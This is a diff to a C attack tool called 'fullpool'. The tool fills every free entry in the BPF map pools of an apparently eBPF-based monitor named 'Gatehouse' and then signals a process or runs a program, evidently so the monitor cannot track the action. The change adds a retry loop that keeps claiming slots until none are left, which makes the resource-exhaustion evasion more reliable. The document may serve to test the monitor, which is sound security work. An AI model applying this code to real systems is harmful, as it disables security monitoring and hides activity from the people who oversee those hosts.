@@ -55,22 +55,30 @@ static void find(void)
 	answer_need("a pool of Gatehouse", s_count ? 0 : -1);
 }
 
-/* Owner is the first word of a piece; 0 is nobody. Pieces that somebody else has are left alone. */
-static void give_to(uint64_t owner)
+/*
+ * Owner is the first word of a piece; 0 is nobody. Pieces that somebody else has are left alone. Returns how many are not taken.
+ */
+static int give_to(uint64_t owner)
 {
+	int left = 0;
+
 	for (struct pool *pool = s_pools; pool < s_pools + s_count; pool++) {
 		uint64_t *piece = calloc(1, pool->bytes);
 
 		for (uint32_t i = 0; i < pool->pieces; i++) {
 			union bpf_attr element = {.map_fd = pool->fd, .key = (uintptr_t)&i, .value = (uintptr_t)piece};
 
-			if (owner ? bpf(BPF_MAP_LOOKUP_ELEM, &element) || *piece : !pool->taken[i])
+			if (owner ? pool->taken[i] || bpf(BPF_MAP_LOOKUP_ELEM, &element) || *piece : !pool->taken[i]) {
+				left += !pool->taken[i];
 				continue;
+			}
 			*piece = owner;
 			pool->taken[i] = !bpf(BPF_MAP_UPDATE_ELEM, &element) && owner;
+			left += !pool->taken[i];
 		}
 		free(piece);
 	}
+	return left;
 }
 
 int main(int argc, char **argv)
@@ -81,7 +89,9 @@ int main(int argc, char **argv)
 	if (argc != 3 || (strcmp(argv[1], "signal") && strcmp(argv[1], "exec")))
 		attack_usage("fullpool signal PID | exec PROGRAM");
 	find();
-	give_to(1);
+	/* A hook that runs at this moment has a piece, and gives it back at once. */
+	for (int tries = 0; give_to(1) && tries < 1000; tries++)
+		usleep(1000);
 	if (!strcmp(argv[1], "signal")) {
 		result = kill(atoi(argv[2]), SIGURG);
 	} else {
